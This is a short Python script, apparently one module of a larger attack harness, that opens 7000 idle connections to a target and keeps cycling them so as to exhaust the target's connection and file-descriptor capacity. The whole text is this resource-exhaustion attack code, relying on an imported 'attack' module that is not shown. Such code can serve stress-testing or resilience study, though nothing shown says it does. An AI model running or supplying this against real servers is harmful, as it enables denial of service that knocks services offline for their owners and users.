"""Connections from everywhere that say nothing, more of them than there is room for."""

import attack

WANTED = 7000


def descriptors(target, stop):
    connections = [target.connect() for _ in range(WANTED)]
    attack.in_full_swing()
    opened = WANTED
    while not stop.wait(0.002):
        at = opened % WANTED
        connections[at].close()
        connections[at] = target.connect()
        opened += 1
    return {"opened": opened}


if __name__ == "__main__":
    attack.main(descriptors)
